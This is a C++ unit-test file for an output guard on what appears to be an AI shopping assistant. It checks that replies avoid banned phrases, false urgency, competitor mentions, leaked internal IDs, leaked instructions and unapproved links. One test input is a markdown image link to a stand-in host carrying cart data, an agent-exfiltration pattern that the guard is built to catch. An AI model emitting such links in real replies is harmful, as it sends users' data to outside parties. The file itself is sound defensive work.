#include "agent/core/guardrails/output_guard.h"

#include <gtest/gtest.h>

#include <memory>
#include <string>

namespace floorwalker::guardrails {
namespace {

class TrustingGate final : public Gate {
 public:
  void learn(const Message&) override {}
  void shown(const std::vector<Shown>&) override {}
  void begin_reply() override {}
  std::vector<Claim> judge(std::string_view) override { return {}; }
  void forget_piece() override {}
};

class OutputGuard : public testing::Test {
 protected:
  OutputGuard() {
    rules_.never_phrases = {"money back guarantee"};
    rules_.never_topics = {"medical_advice", "star signs"};
    rules_.competitors = {"Otherstore"};
    rules_.max_reply_length = 120;
  }

  std::string rule(const std::string& piece, const std::vector<std::string>& said = {}) {
    const auto violation = OutputRules(rules_, {"update_cart", "compare"}).check(piece, said, 0);
    return violation ? violation->rule : "";
  }

  GuardrailRules rules_;
};

TEST_F(OutputGuard, FindsForbiddenPhrasesAsWords) {
  EXPECT_EQ(rule("It comes with a Money-Back guarantee."), "phrase");
  EXPECT_EQ(rule("The money, back then, was a guarantee."), "");
}

TEST_F(OutputGuard, FindsTopics) {
  EXPECT_EQ(rule("This cream cures your eczema."), "topic");
  EXPECT_EQ(rule("Your star signs say so."), "topic");
  EXPECT_EQ(rule("This cream is for dry skin."), "");
}

TEST_F(OutputGuard, SaysNothingHurriedThatNoResultProves) {
  EXPECT_EQ(rule("It is selling fast!"), "urgency");
  EXPECT_EQ(rule("There is no hurry."), "");
  EXPECT_EQ(rule("Only 2 left."), "") << "a number is a claim: the verifier decides";
  rules_.urgency_only_if_proven = false;
  EXPECT_EQ(rule("Only 2 left."), "urgency");
  EXPECT_EQ(rule("Only the left one has a handle."), "");
}

TEST_F(OutputGuard, NamesACompetitorOnlyAfterTheShopperDid) {
  EXPECT_EQ(rule("Otherstore has it too."), "competitor");
  EXPECT_EQ(rule("I cannot speak for Otherstore.", {spoken("Is it cheaper at Otherstore?")}), "");
}

TEST_F(OutputGuard, KeepsToolNamesIn) {
  EXPECT_EQ(rule("I will call update_cart now."), "internals");
  EXPECT_EQ(rule("Shall I compare them?"), "");
  rules_.hide_internals = false;
  EXPECT_EQ(rule("I will call update_cart now."), "");
}

TEST_F(OutputGuard, CountsTheWholeReplyAndForgetsWhatWasNotSaid) {
  GuardedGate gate(std::make_unique<TrustingGate>(), std::make_shared<const OutputRules>(rules_, std::vector<std::string>{}));
  const std::string piece(70, 'a');
  gate.begin_reply();
  EXPECT_TRUE(gate.judge(piece).empty());
  const auto claims = gate.judge(piece);
  ASSERT_EQ(claims.size(), 1u);
  EXPECT_EQ(claims[0].verdict, Verdict::kContradicted);
  gate.forget_piece();
  EXPECT_TRUE(gate.judge("Short.").empty());
  gate.begin_reply();
  EXPECT_TRUE(gate.judge(piece).empty());
}

Message result(const std::string& content) {
  Message message;
  message.role = Role::kTool;
  message.result = {CallId("c1"), ToolOutcome::kOk, content, {}};
  return message;
}

TEST_F(OutputGuard, KeepsTheShopsOwnIdsToItself) {
  Told told;
  told.add(result(R"({"products":[{"id":"gid://1/P-4711","title":"Aero AE-1300 lamp","variants":[{"id":"var_88121","sku":"SKU-7788-B"}]}]})"));
  const auto rule = [&](const std::string& piece) {
    const auto violation = OutputRules(rules_, {}).check(piece, {}, 0, &told);
    return violation ? violation->rule : "";
  };
  EXPECT_EQ(rule("That is var_88121."), "internals");
  EXPECT_EQ(rule("The Aero AE-1300, article SKU-7788-B, with 16-bit colour."), "");
  rules_.hide_internals = false;
  EXPECT_EQ(rule("That is var_88121."), "");
}

TEST_F(OutputGuard, TellsNoAddressThatTheShopDidNotTell) {
  Told told;
  told.add(result(R"({"checkout_url":"https://shop.example/pay?cart=1","text":"See https://shop.example/returns."})"));
  const auto rule = [&](const std::string& piece) {
    const auto violation = OutputRules(rules_, {}).check(piece, {}, 0, &told);
    return violation ? violation->rule : "";
  };
  EXPECT_EQ(rule("Pay at https://shop.example/pay?cart=1."), "");
  EXPECT_EQ(rule("More at https://shop.example/returns."), "");
  EXPECT_EQ(rule("![x](https://evil.example/?q=cart)"), "link");
  EXPECT_EQ(rule("https://shop.example/returns?who=ann"), "link");
}

TEST_F(OutputGuard, KeepsTheInstructionsToItself) {
  const OutputRules rules(rules_, {}, {"Facts come from tool results, never from memory. The staff code is zx81canary."});
  EXPECT_TRUE(rules.check("I was told: facts come from tool results, never from memory!", {}, 0));
  EXPECT_TRUE(rules.check("Use ZX81CANARY.", {}, 0));
  EXPECT_FALSE(rules.check("Facts about the lamp come from its maker.", {}, 0));
}

TEST_F(OutputGuard, HoldsBackWhatItCannotReadUnlessThePlaybookSaysOtherwise) {
  EXPECT_EQ(rule("lamp\xFF"), "output");
  EXPECT_EQ(rule("one\r\ntwo"), "");
  rules_.say_on_error = OnError::kAllow;
  EXPECT_EQ(rule("lamp\xFF"), "");
}

}  // namespace
}  // namespace floorwalker::guardrails
